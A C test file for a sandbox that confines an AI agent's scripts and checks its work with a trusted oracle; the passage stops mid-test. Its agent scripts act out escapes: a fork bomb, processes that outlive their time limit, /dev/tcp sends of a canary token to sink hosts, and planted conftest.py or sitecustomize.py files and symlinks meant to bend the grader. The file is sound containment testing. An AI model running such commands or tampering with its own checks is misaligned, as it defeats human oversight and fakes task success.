// SPDX-License-Identifier: GPL-2.0-only
/*
 * A branch without the guard: namespaces, root, limits, oracle, clean-up. What
 * is refused here is refused by the sandbox alone; where the guard refuses it
 * as well, a bug in one of them is still one too few.
 */
#include "harness.h"

#include <dirent.h>
#include <sys/mman.h>
#include <sys/stat.h>

#include "base/cleanup.h"
#include "base/file.h"
#include "branch_support.h"

/* Runs a shell script as agent and returns what it printed. */
static const char *agent_says(const char *script)
{
	struct record_run run;
	struct task task;

	task_init(&task, script, NULL);
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_DONE);
	EXPECT_STREQ(run.agent_status, "exit 0");
	return run.agent_output;
}

/* ---- ends */

TEST(accepted)
{
	struct record_run run;
	struct task task;

	task_init(&task, "echo out; echo err >&2; touch done; exit 3", NULL);
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_DONE);
	EXPECT_STREQ(run.agent_status, "exit 3");
	EXPECT_TRUE(run.accepted);
	EXPECT_EQ(run.nr_tests, 1);
	EXPECT_NE(strstr(run.agent_output, "out\n"), NULL);
	EXPECT_NE(strstr(run.agent_output, "err\n"), NULL);
	EXPECT_NE(strstr(run.oracle_output, "ok 1 - it is done"), NULL);
	EXPECT_EQ(strlen(run.initial_state), 64);
}

TEST(rejected)
{
	struct record_run run;
	struct task task;

	task_init(&task, "touch undone", NULL);
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_DONE);
	EXPECT_FALSE(run.accepted);
	EXPECT_EQ(run.nr_tests, 1);
}

TEST(agent_is_missing)
{
	static const char *const argv[] = { "/no/such/agent", NULL };
	struct record_run run;
	struct task task;

	task_init(&task, NULL, NULL);
	task.manifest.agent_command = argv;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_AGENT_FAILED);
	EXPECT_STREQ(run.detail,
		     "cannot run /no/such/agent: No such file or directory");
	EXPECT_FALSE(run.accepted);
}

TEST(agent_dies_of_a_signal)
{
	struct record_run run;
	struct task task;

	task_init(&task, "touch done; kill -SEGV $$", NULL);
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_AGENT_FAILED);
	EXPECT_STREQ(run.agent_status, "signal 11");
	EXPECT_FALSE(run.accepted);
}

/* Also what it left running elsewhere, in sessions of its own. */
TEST(agent_outlives_its_limit)
{
	struct record_run run;
	struct task task;

	task_init(&task,
		  "touch done; (setsid sh -c 'while :; do :; done' &);"
		  "trap '' TERM INT HUP; while :; do sleep 100; done",
		  NULL);
	task.manifest.seconds = 1;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_TIMEOUT);
	EXPECT_FALSE(run.accepted);
	EXPECT_GE(run.agent_ms, 1000);
	EXPECT_LT(run.agent_ms, 10000);
}

TEST(background_processes_end_with_the_agent)
{
	struct record_run run;
	struct task task;

	task_init(&task, "(setsid sleep 1000 &) ; touch done", NULL);
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_DONE);
	EXPECT_TRUE(run.accepted);
	EXPECT_LT(run.agent_ms, 10000);
}

TEST_TIMEOUT(fork_bomb_is_bounded, 120)
{
	struct record_run run;
	struct task task;

	task_init(&task,
		  "bomb() { bomb | bomb & }; bomb; touch done;"
		  "while :; do sleep 1; done",
		  NULL);
	task.manifest.seconds = 3;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_TIMEOUT);
}

TEST_TIMEOUT(output_is_bounded, 120)
{
	struct record_run run;
	struct task task;

	task_init(&task,
		  "head -c 1073741824 /dev/zero; echo the end; touch done",
		  NULL);
	task.manifest.seconds = 100;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_TRUE(run.accepted);
	EXPECT_EQ(run.agent_output_length, 65536);
	EXPECT_EQ(memcmp(run.agent_output + 65536 - 8, "the end\n", 8), 0);
}

TEST(disk_is_bounded)
{
	struct record_run run;
	struct task task;

	task_init(&task,
		  "for f in a /tmp/b; do"
		  "  dd if=/dev/zero of=$f bs=1M count=40 2>&1; done;"
		  "rm -f a /tmp/b; touch done",
		  NULL);
	task.manifest.disk = 32 << 20;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_TRUE(run.accepted);
	EXPECT_NE(strstr(run.agent_output, "limit exceeded"), NULL);
	task_init(&task,
		  "for f in a /tmp/b; do"
		  "  dd if=/dev/zero of=$f bs=1M count=20 2>&1; done",
		  NULL);
	task.manifest.disk = 32 << 20;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_NE(strstr(run.agent_output, "No space left"), NULL);
}

/* What it fills up or nests is its own loss, and not the machine's. */
TEST(what_the_agent_leaves_is_judged)
{
	struct record_run run;
	struct task task;

	task_init(&task,
		  "touch done; head -c 100M /dev/zero > full 2>/dev/null;"
		  "head -c 100M /dev/zero > /tmp/full 2>/dev/null; :",
		  "echo written > file && ./tests.sh");
	task.manifest.disk = 8 << 20;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_DONE);
	EXPECT_TRUE(run.accepted);
	task_init(&task, "touch done; mkdir -p $(printf 'd/%.0s' $(seq 300))",
		  NULL);
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_ORACLE_ERROR);
	EXPECT_FALSE(run.accepted);
}

TEST(memory_is_bounded)
{
	struct campaign *campaign = NULL;
	const char *note;
	struct record_run run;
	struct task task;

	ASSERT_EQ(campaign_open(&campaign, NULL), 0);
	note = campaign_note(campaign);
	campaign_close(campaign);
	if (note)
		SKIP("%s", note);
	task_init(&task, "python3 -c 'x = b\"x\" * (1 << 29)'; echo $?", NULL);
	task.manifest.memory = 128 << 20;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_DONE);
	EXPECT_NE(strstr(run.agent_output, "137\n"), NULL);
	task.manifest.memory = 2048ul << 20;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_STREQ(run.agent_output, "0\n");
}

/* ---- what the agent is */

TEST(agent_has_no_rights)
{
	const char *status = agent_says("cat /proc/self/status; touch done");

	EXPECT_NE(strstr(status, "Uid:\t60600\t60600\t60600\t60600\n"), NULL);
	EXPECT_NE(strstr(status, "Gid:\t60600\t60600\t60600\t60600\n"), NULL);
	EXPECT_NE(strstr(status, "Groups:\t \n"), NULL);
	EXPECT_NE(strstr(status, "CapInh:\t0000000000000000\n"), NULL);
	EXPECT_NE(strstr(status, "CapPrm:\t0000000000000000\n"), NULL);
	EXPECT_NE(strstr(status, "CapEff:\t0000000000000000\n"), NULL);
	EXPECT_NE(strstr(status, "CapBnd:\t0000000000000000\n"), NULL);
	EXPECT_NE(strstr(status, "CapAmb:\t0000000000000000\n"), NULL);
	EXPECT_NE(strstr(status, "NoNewPrivs:\t1\n"), NULL);
	EXPECT_NE(strstr(status, "Seccomp:\t2\n"), NULL);
}

TEST(agent_has_only_its_streams)
{
	/* 3 is the directory that ls itself reads. */
	EXPECT_STREQ(agent_says("ls /proc/self/fd"), "0\n1\n2\n3\n");
	EXPECT_STREQ(agent_says("readlink /proc/self/fd/0"), "/dev/null\n");
	EXPECT_STREQ(agent_says("[ -t 0 ] || [ -t 1 ] || [ -t 2 ] ||"
				" (: </dev/tty) 2>/dev/null || echo none"),
		     "none\n");
	EXPECT_STREQ(agent_says("ulimit -Sc; ulimit -Hc"), "0\n0\n");
}

TEST(environment_is_fixed)
{
	setenv("LEAKED", "secret", 1);
	EXPECT_EQ(strstr(agent_says("env"), "LEAKED"), NULL);
	EXPECT_NE(strstr(agent_says("env"), "HOME=/home/agent\n"), NULL);
}

TEST(environment_is_withheld)
{
	static const bool withheld[] = { false, false, true };
	struct record_run run;
	struct task task;

	task_init(&task, "echo ${TOKEN-none}", NULL);
	task.environment[2] = "TOKEN=abc";
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_STREQ(run.agent_output, "abc\n");
	task.plan.withheld_env = withheld;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_STREQ(run.agent_output, "none\n");
}

/* Through python, because no tool makes all of these calls. */
TEST(system_calls_are_filtered)
{
	static const char script[] =
		"cat > /tmp/t.py <<'E'\n"
		"import ctypes, errno\n"
		"c = ctypes.CDLL(None, use_errno=True)\n"
		"def t(name, *a):\n"
		"  ctypes.set_errno(0)\n"
		"  r = c.syscall(*a)\n"
		"  e = ctypes.get_errno()\n"
		"  print(name, errno.errorcode.get(e, e) if r < 0 else 'ok')\n"
		"t('getpid', 39)\n"
		"t('io_uring_setup', 425, 1, 0)\n"
		"t('clone3', 435, 0, 0)\n"
		"t('bpf', 321, 0, 0, 0)\n"
		"t('mount', 165, 0, 0, 0, 0, 0)\n"
		"t('unshare-user', 272, 0x10000000)\n"
		"t('unshare-files', 272, 0x400)\n"
		"t('clone-newns', 56, 0x00020011, 0, 0, 0, 0)\n"
		"t('setns', 308, 0, 0)\n"
		"t('keyctl', 250, 0, -3, 0)\n"
		"t('perf', 298, 0, 0, 0, 0, 0)\n"
		"t('userfaultfd', 323, 0)\n"
		"t('open_by_handle', 304, 0, 0, 0)\n"
		"t('kexec', 246, 0, 0, 0, 0)\n"
		"t('reboot', 169, 0, 0, 0, 0)\n"
		"t('inet', 41, 2, 1, 0)\n"
		"t('packet', 41, 17, 3, 0)\n"
		"t('packet-high', 41, (1 << 32) | 17, 3, 0)\n"
		"t('vsock', 41, 40, 1, 0)\n"
		"t('mptcp', 41, 2, 1, 262)\n"
		"t('netlink-audit', 41, 16, 3, 9)\n"
		"t('netlink-route', 41, 16, 3, 0)\n"
		"E\n"
		"python3 /tmp/t.py 2>&1";
	static const char expected[] = "getpid ok\n"
				       "io_uring_setup ENOSYS\n"
				       "clone3 ENOSYS\n"
				       "bpf EPERM\n"
				       "mount EPERM\n"
				       "unshare-user EPERM\n"
				       "unshare-files ok\n"
				       "clone-newns EPERM\n"
				       "setns EPERM\n"
				       "keyctl EPERM\n"
				       "perf EPERM\n"
				       "userfaultfd EPERM\n"
				       "open_by_handle EPERM\n"
				       "kexec EPERM\n"
				       "reboot EPERM\n"
				       "inet ok\n"
				       "packet EAFNOSUPPORT\n"
				       "packet-high EAFNOSUPPORT\n"
				       "vsock EAFNOSUPPORT\n"
				       "mptcp EPROTONOSUPPORT\n"
				       "netlink-audit EPROTONOSUPPORT\n"
				       "netlink-route ok\n";

#ifdef __x86_64__
	EXPECT_STREQ(agent_says(script), expected);
#else
	SKIP("the numbers of the calls are those of x86_64");
#endif
}

/* ---- what the agent sees */

TEST(sees_only_its_own_processes)
{
	EXPECT_STREQ(agent_says("cat /proc/1/comm"), "al-init\n");
	EXPECT_STREQ(agent_says("ls /proc | grep -c '^[0-9]*$'"), "4\n");
	/* Process 1 has another user and nothing to look at. */
	EXPECT_STREQ(agent_says("ls /proc/1/fd 2>/dev/null ||"
				" kill -9 1 2>/dev/null || echo refused"),
		     "refused\n");
	EXPECT_STREQ(agent_says("hostname; readlink /proc/1/root || :"),
		     "aletheia\n");
}

TEST(root_has_nothing_of_the_host)
{
	const char *top = agent_says("ls /");
	FILE *file = fopen("/run/branch_run_test", "w");

	ASSERT_NE(file, NULL);
	fclose(file);
	EXPECT_EQ(strstr(top, "sys"), NULL);
	EXPECT_EQ(strstr(top, "root"), NULL);
	EXPECT_EQ(strstr(top, "srv"), NULL);
	EXPECT_EQ(strstr(top, "mnt"), NULL);
	EXPECT_NE(strstr(top, "workspace"), NULL);
	EXPECT_STREQ(agent_says("ls -A /run /tmp /var/tmp /dev/shm"),
		     "/dev/shm:\n\n/run:\n\n/tmp:\n\n/var/tmp:\n");
	unlink("/run/branch_run_test");
	EXPECT_STREQ(agent_says("ls /home"), "agent\n");
	EXPECT_STREQ(agent_says("ls /dev"),
		     "fd\nfull\nnull\nrandom\nshm\nstderr\nstdin\nstdout\ntty\n"
		     "urandom\nzero\n");
	EXPECT_STREQ(agent_says("echo $(head -c 3 /dev/zero | wc -c);"
				"echo x >/dev/null && echo written"),
		     "3\nwritten\n");
}

/* Each with its mode: writable places take a file, others do not. */
TEST(system_is_read_only)
{
	EXPECT_STREQ(
		agent_says("for d in / /usr /etc /dev /proc /proc/sys/kernel"
			   " /aletheia /home /run /var; do"
			   "  if (: > $d/x) 2>/dev/null; then echo $d; fi;"
			   "done;"
			   "for d in /workspace /home/agent /tmp /var/tmp"
			   " /dev/shm; do"
			   "  if (: > $d/x) 2>/dev/null; then echo $d; fi;"
			   "done"),
		"/workspace\n/home/agent\n/tmp\n/var/tmp\n/dev/shm\n");
	EXPECT_STREQ(agent_says("awk '$2 == \"/proc/sys\" ||"
				" $2 == \"/usr\" || $2 == \"/etc\" ||"
				" $2 == \"/\" || $2 == \"/dev\" {"
				" split($4, o, \",\"); print $2, o[1] }'"
				" /proc/mounts | sort -u"),
		     "/ ro\n/dev ro\n/etc ro\n/proc/sys ro\n/usr ro\n");
	EXPECT_STREQ(agent_says("awk '$2 != \"/dev\" && $2 !~ \"^/dev/\" &&"
				" ($4 !~ /nosuid/) { print $2 }' /proc/mounts"),
		     "");
}

TEST(files_of_any_name)
{
	struct record_run run;
	struct task task;

	task_init(&task,
		  "cat 'a\nb: \\,'*; mv 'a\nb: \\,'* \"$(printf '\\377')\";"
		  "touch done",
		  NULL);
	task_add(&task, "/workspace/a\nb: \\,\xfe", 0644, "odd");
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_STREQ(run.agent_output, "odd");
	EXPECT_TRUE(run.accepted);
}

/* A name that the host has, one that it lacks, one in a directory it lacks. */
TEST(places)
{
	static struct place places[] = {
		{ "/aletheia/etc/hosts", "/etc/hosts" },
		{ "/aletheia/etc/new", "/etc/aletheia-test-new" },
		{ "/aletheia/etc/deep", "/usr/share/aletheia-test/a/b" },
		{ "/aletheia/etc/dir", "/opt/aletheia-test" },
	};
	struct record_run run;
	struct task task;

	task_init(&task,
		  "cat /etc/hosts /etc/aletheia-test-new"
		  " /usr/share/aletheia-test/a/b /opt/aletheia-test/x;"
		  "[ -e /etc/passwd ] && [ -e /usr/share/doc ] && echo rest",
		  NULL);
	task_add(&task, "/aletheia/etc", 0755, NULL);
	task_add(&task, "/aletheia/etc/hosts", 0644, "one\n");
	task_add(&task, "/aletheia/etc/new", 0644, "two\n");
	task_add(&task, "/aletheia/etc/deep", 0644, "three\n");
	task_add(&task, "/aletheia/etc/dir", 0755, NULL);
	task_add(&task, "/aletheia/etc/dir/x", 0644, "four\n");
	task.bound.places = places;
	task.bound.nr_places = ARRAY_SIZE(places);
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_STREQ(run.agent_output, "one\ntwo\nthree\nfour\nrest\n");
}

TEST(rule_is_emptied)
{
	static const char *names[] = { "/workspace/AGENTS.md",
				       "/workspace/alias" };
	struct record_run full, control;
	struct task task;

	task_init(&task, "cat AGENTS.md alias; stat -c %a,%h,%Y AGENTS.md",
		  NULL);
	{
		struct content *content =
			ARENA_PUSH(task.arena, task.bound.contents,
				   task.bound.nr_contents);

		content->kind = CONTENT_HARDLINK;
		content->path = "/workspace/alias";
		content->source = "/workspace/AGENTS.md";
		content->directory = -1;
		task.objects[1].paths = names;
		task.objects[1].nr_paths = 2;
	}
	ASSERT_EQ(task_run(&task, &full), 0);
	EXPECT_EQ(strncmp(full.agent_output, "do this\ndo this\n644,2,", 22),
		  0);
	task.plan.empty_rule = true;
	ASSERT_EQ(task_run(&task, &control), 0);
	EXPECT_EQ(strncmp(control.agent_output, "644,2,", 6), 0);
	/* Mode, links and time of change are the same. */
	EXPECT_STREQ(control.agent_output, full.agent_output + 16);
	EXPECT_STREQ(control.initial_state, full.initial_state);
}

TEST(initial_state_tells_states_apart)
{
	struct record_run first, second, other;
	struct task task;

	task_init(&task, "echo changed > old; touch done", NULL);
	ASSERT_EQ(task_run(&task, &first), 0);
	ASSERT_EQ(task_run(&task, &second), 0);
	EXPECT_STREQ(first.initial_state, second.initial_state);
	task_add(&task, "/workspace/more", 0644, "more");
	ASSERT_EQ(task_run(&task, &other), 0);
	EXPECT_STRNE(first.initial_state, other.initial_state);
	second = other;
	task.bound.contents[task.bound.nr_contents - 1].data = "mora";
	ASSERT_EQ(task_run(&task, &other), 0);
	EXPECT_STRNE(second.initial_state, other.initial_state);
	second = other;
	task.bound.contents[task.bound.nr_contents - 1].mode = 0640;
	ASSERT_EQ(task_run(&task, &other), 0);
	EXPECT_STRNE(second.initial_state, other.initial_state);
}

/* ---- network */

#define TOKEN "Canary7f3a9c01d2e4b58697a0c1d2e3"

TEST(sinks_record)
{
	struct digest digest = digest_of("hello " TOKEN "\nmore\n", 44);
	char hex[DIGEST_HEX];
	struct record_run run;
	struct task task;

	digest_hex(&digest, hex);
	task_init(&task,
		  "exec bash -c '"
		  "echo hello " TOKEN " > /dev/tcp/198.18.0.5/22;"
		  "echo more > /dev/tcp/198.18.0.5/22;"
		  "echo else > /dev/tcp/203.0.113.9/8080;"
		  "echo -n datagram > /dev/udp/198.18.0.6/53'",
		  NULL);
	task_canary(&task, "archive", TOKEN);
	task_canary(&task, "other", "Zzzz7f3a9c01d2e4b58697a0c1d2e3");
	task_sink(&task, "198.18.0.5", 22, AL_PROTOCOL_TCP);
	task_sink(&task, "203.0.113.9", 8080, AL_PROTOCOL_TCP);
	task_sink(&task, "198.18.0.6", 53, AL_PROTOCOL_UDP);
	task_sink(&task, "198.18.0.7", 80, AL_PROTOCOL_TCP);
	ASSERT_EQ(task_run(&task, &run), 0);
	ASSERT_EQ(run.nr_sinks, 3);
	EXPECT_EQ(run.sinks[0].object, 2);
	EXPECT_EQ(run.sinks[0].connections, 2);
	EXPECT_EQ(run.sinks[0].bytes, 44);
	EXPECT_EQ(run.sinks[0].unrecognised, 5);
	EXPECT_STREQ(run.sinks[0].digest, hex);
	ASSERT_EQ(run.sinks[0].nr_canaries, 1);
	EXPECT_STREQ(run.sinks[0].canaries[0], "archive");
	EXPECT_EQ(run.sinks[1].connections, 1);
	EXPECT_EQ(run.sinks[1].nr_canaries, 0);
	EXPECT_EQ(run.sinks[1].unrecognised, 5);
	EXPECT_EQ(run.sinks[2].connections, 1);
	EXPECT_EQ(run.sinks[2].bytes, 8);
}

/* More than is kept, the canary behind it; and one that never ends. */
TEST_TIMEOUT(sinks_take_any_amount, 120)
{
	struct record_run run;
	struct task task;

	task_init(&task,
		  "exec bash -c '"
		  "(head -c 20000000 /dev/zero; echo " TOKEN ")"
		  " > /dev/tcp/198.18.0.5/22;"
		  "for i in $(seq 100); do"
		  "  exec {f}<>/dev/tcp/198.18.0.5/22; echo $i >&$f; done'",
		  NULL);
	task_canary(&task, "archive", TOKEN);
	task_sink(&task, "198.18.0.5", 22, AL_PROTOCOL_TCP);
	ASSERT_EQ(task_run(&task, &run), 0);
	ASSERT_EQ(run.nr_sinks, 1);
	EXPECT_EQ(run.sinks[0].connections, 101);
	EXPECT_EQ(run.sinks[0].bytes, 20000000 + 33 + 9 * 2 + 90 * 3 + 4);
	EXPECT_EQ(run.sinks[0].nr_canaries, 1);
}

TEST(network_is_loopback_only)
{
	EXPECT_STREQ(agent_says("ls /proc/sys/net/ipv4/conf"),
		     "all\ndefault\nlo\n");
	EXPECT_STREQ(
		agent_says("exec bash -c '(: > /dev/tcp/192.0.2.1/80)"
			   " 2>&1 | grep -q unreachable && echo unreachable'"),
		"unreachable\n");
}

/* ---- the oracle */

TEST(oracle_is_missing)
{
	static const char *const argv[] = { "no-such-oracle", NULL };
	struct record_run run;
	struct task task;

	task_init(&task, "touch done", NULL);
	task.manifest.oracle_command = argv;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_ORACLE_ERROR);
	EXPECT_STREQ(run.detail,
		     "cannot run no-such-oracle: No such file or directory");
}

TEST(oracle_without_result)
{
	struct record_run run;
	struct task task;

	task_init(&task, "touch done", "echo everything is fine");
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_ORACLE_ERROR);
	EXPECT_FALSE(run.accepted);
	task_init(&task, "touch done", "kill -9 $$");
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_ORACLE_ERROR);
	EXPECT_NE(strstr(run.detail, "signal 9"), NULL);
	task_init(&task, "touch done", "head -c 5000000 /dev/zero");
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_ORACLE_ERROR);
	task_init(&task, "touch done", "sleep 1000");
	task.manifest.oracle_seconds = 1;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_ORACLE_ERROR);
}

/* Only both together are an acceptance. */
TEST(oracle_needs_status_and_result)
{
	struct record_run run;
	struct task task;

	task_init(&task, NULL, "echo 1..1; echo ok 1 - it is done; exit 1");
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_DONE);
	EXPECT_FALSE(run.accepted);
	task_init(&task, NULL, "echo 1..1; echo ok 1 - another test");
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_FALSE(run.accepted);
	task_init(&task, NULL, "echo 1..1; echo ok 1 - it is done");
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_TRUE(run.accepted);
}

TEST(oracle_result_in_a_file)
{
	struct record_run run;
	struct task task;

	task_init(&task, "ln -s /etc/passwd /tmp/aletheia-result",
		  "echo noise; echo '<testsuite><testcase name=\"it is done\"/>"
		  "</testsuite>' > $ALETHEIA_RESULT");
	task.manifest.result = RESULT_JUNIT;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_TRUE(run.accepted);
	task_init(&task, NULL, "ln -s /etc/passwd $ALETHEIA_RESULT");
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_ORACLE_ERROR);
}

/* Of the branch only the project is there. */
TEST(oracle_sees_only_the_project)
{
	struct record_run run;
	struct task task;

	task_init(
		&task,
		"echo x > /tmp/x; echo x > ~/.profile; rm old; mkdir -p dir/e;"
		"echo y > dir/e/f; chmod 600 tests.sh",
		"ls -A / /tmp $HOME /workspace /workspace/dir/e >&2; env >&2;"
		"(: > /dev/tcp/198.18.0.5/22) 2>&1 | grep -c . >&2;"
		"echo 1..1; echo ok 1 - it is done");
	task_sink(&task, "198.18.0.5", 22, AL_PROTOCOL_TCP);
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_TRUE(run.accepted);
	EXPECT_EQ(strstr(run.oracle_output, "aletheia\n"), NULL);
	EXPECT_NE(strstr(run.oracle_output, "\n/tmp:\n\n"), NULL);
	EXPECT_NE(strstr(run.oracle_output, "/home/agent:\n\n"), NULL);
	EXPECT_NE(strstr(run.oracle_output,
			 "/workspace:\nAGENTS.md\ndir\ntests.sh\n"),
		  NULL);
	EXPECT_NE(strstr(run.oracle_output, "/workspace/dir/e:\nf\n"), NULL);
	EXPECT_EQ(run.nr_sinks, 0);
}

static void write_file(const char *directory, const char *name,
		       const char *text)
{
	char *path cleanup_free = xasprintf("%s/%s", directory, name);
	struct error *err = NULL;

	ASSERT_EQ(file_write_atomic(path, text, strlen(text), 0755, &err), 0);
}

/*
 * The agent puts symlinks, directories and files where the trusted tests will
 * lie: they are replaced, and nothing outside is written.
 */
TEST(oracle_tests_cannot_be_bent)
{
	const char *dir = test_dir();
	char *below cleanup_free = xasprintf("%s/t", dir);
	struct record_run run;
	struct task task;

	ASSERT_EQ(mkdir(below, 0755), 0);
	write_file(below, "check.sh", "echo 1..1; echo ok 1 - it is done\n");
	write_file(dir, "other.sh", "exit 0\n");
	task_init(&task,
		  "rm -rf t; ln -s /workspace/trap t; mkdir trap;"
		  "mkdir -p other.sh/x",
		  "[ ! -L t ] && [ -z \"$(ls trap)\" ] && sh other.sh &&"
		  " ! (echo x > t/check.sh) 2>/dev/null &&"
		  " . ./t/check.sh");
	task.manifest.oracle_tests = dir;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_DONE);
	EXPECT_TRUE(run.accepted);
}

TEST(oracle_restores_loaders)
{
	const char *dir = test_dir();
	struct record_run run;
	struct task task;

	write_file(dir, "pytest.ini", "of the solution\n");
	task_init(
		&task,
		"echo evil > conftest.py; echo evil > sub/conftest.py;"
		"mkdir -p sub/__pycache__; echo x > sub/__pycache__/a.pyc;"
		"ln -s /etc/passwd sitecustomize.py;"
		"echo 'of the solution' > pytest.ini; echo evil > .npmrc;"
		"echo fine > config.py; mkdir moved; mv sub moved/; mkdir sub",
		"find . -type f | sort >&2; cat .npmrc >&2;"
		"echo 1..1; echo ok 1 - it is done");
	task_add(&task, "/workspace/sub", 0755, NULL);
	task_add(&task, "/workspace/sub/keep", 0644, "");
	task_add(&task, "/workspace/.npmrc", 0644, "good\n");
	task.manifest.solution = dir;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_TRUE(run.accepted);
	EXPECT_NE(strstr(run.oracle_output,
			 "./.npmrc\n./AGENTS.md\n./config.py\n"
			 "./moved/sub/keep\n./old\n./pytest.ini\n./tests.sh\n"
			 "good\n"),
		  NULL);
	ASSERT_EQ(run.nr_removed_loaders, 5);
	EXPECT_STREQ(run.removed_loaders[0], ".npmrc");
	EXPECT_STREQ(run.removed_loaders[1], "conftest.py");
	EXPECT_STREQ(run.removed_loaders[2], "moved/sub/__pycache__");
	EXPECT_STREQ(run.removed_loaders[3], "moved/sub/conftest.py");
	EXPECT_STREQ(run.removed_loaders[4], "sitecustomize.py");
}

TEST(polarity)
{
	const char *dir = test_dir();
	struct record_run run;
	struct task task;

	write_file(dir, "done", "");
	task_init(&task, "touch done", NULL);
	task.manifest.solution = dir;
	task.plan.untouched = true;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_DONE);
	EXPECT_FALSE(run.accepted);
	EXPECT_STREQ(run.agent_status, "not run");
	task.plan.untouched = false;
	task.plan.solve_only = true;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_DONE);
	EXPECT_TRUE(run.accepted);
	EXPECT_STREQ(run.agent_status, "not run");
}

TEST(polarity_with_a_command)
{
	static const char *const apply[] = { "/bin/sh", "-c",
					     "[ -e part ] && touch done",
					     NULL };
	const char *dir = test_dir();
	struct record_run run;
	struct task task;

	write_file(dir, "part", "");
	task_init(&task, "exit 1", NULL);
	task.manifest.solution = dir;
	task.manifest.apply = apply;
	task.plan.solve_only = true;
	ASSERT_EQ(task_run(&task, &run), 0);
	EXPECT_STREQ(run.agent_status, "exit 0");
	EXPECT_TRUE(run.accepted);
}

/* ---- several branches */

/* Four at a time in one campaign, each in a process of its own. */
TEST(branches_side_by_side)
{
	struct record_run *runs =
		mmap(NULL, 4 * sizeof(*runs), PROT_READ | PROT_WRITE,
		     MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	struct campaign *campaign = NULL;
	struct task task;
	int i;

	ASSERT_NE(runs, MAP_FAILED);
	branch_selftest_unguarded();
	task_init(&task,
		  "[ ! -e done ] && touch done && sleep 0.2 && [ ! -e /tmp/x ]"
		  " && touch /tmp/x",
		  NULL);
	ASSERT_EQ(campaign_open(&campaign, NULL), 0);
	ASSERT_EQ(campaign_snapshot(campaign, &task.bound, NULL), 0);
	fflush(NULL);
	for (i = 0; i < 4; i++)
		if (!fork()) {
			task.plan.empty_rule = i % 2;
			_exit(branch_run(campaign, NULL, &task.plan, task.arena,
					 &runs[i], NULL) ||
			      strcmp(runs[i].agent_status, "exit 0"));
		}
	for (i = 0; i < 4; i++) {
		int status;

		/* The janitor is a child of ours, too, but lives. */
		ASSERT_GT(wait(&status), 0);
		EXPECT_EQ(status, 0);
	}
	for (i = 0; i < 4; i++) {
		EXPECT_TRUE(runs[i].accepted);
		EXPECT_STREQ(runs[i].initial_state, runs[0].initial_state);
	}
	campaign_close(campaign);
}

/* One after the other in one process, what one left is not in the next. */
TEST(branches_in_a_row)
{
	struct campaign *campaign = NULL;
	struct record_run run;
	struct task task;
	int i;

	branch_selftest_unguarded();
	task_init(&task, "[ ! -e done ] && touch done", NULL);
	ASSERT_EQ(campaign_open(&campaign, NULL), 0);
	ASSERT_EQ(campaign_snapshot(campaign, &task.bound, NULL), 0);
	for (i = 0; i < 3; i++) {
		ASSERT_EQ(branch_run(campaign, NULL, &task.plan, task.arena,
				     &run, NULL),
			  0);
		EXPECT_STREQ(run.agent_status, "exit 0");
		EXPECT_TRUE(run.accepted);
	}
	campaign_close(campaign);
}

static int remove_one(const char *path, const struct stat *st, int type,
		      struct FTW *ftw)
{
	(void)st;
	(void)type;
	(void)ftw;
	return remove(path);
}

TEST(what_was_written_is_kept)
{
	struct campaign *campaign = NULL;
	struct buffer text cleanup_buffer = { 0 };
	char *path cleanup_free = NULL;
	const char *kept;
	DIR *dir cleanup_dir = NULL;
	struct dirent *entry;
	struct record_run run;
	struct task task;
	struct stat st;

	branch_selftest_unguarded();
	task_init(&task, "echo new > done; rm old; mkfifo fifo", NULL);
	task.plan.keep = true;
	ASSERT_EQ(campaign_open(&campaign, NULL), 0);
	ASSERT_EQ(campaign_snapshot(campaign, &task.bound, NULL), 0);
	kept = campaign_kept(campaign);
	ASSERT_NE(stat(kept, &st), 0);
	ASSERT_EQ(
		branch_run(campaign, NULL, &task.plan, task.arena, &run, NULL),
		0);
	ASSERT_EQ(stat(kept, &st), 0);
	EXPECT_EQ(st.st_mode & 0777, 0700);
	dir = opendir(kept);
	while ((entry = readdir(dir)) && entry->d_name[0] == '.')
		;
	ASSERT_NE(entry, NULL);
	EXPECT_EQ(strncmp(entry->d_name, "full-", 5), 0);
	path = xasprintf("%s/%s/workspace/done", kept, entry->d_name);
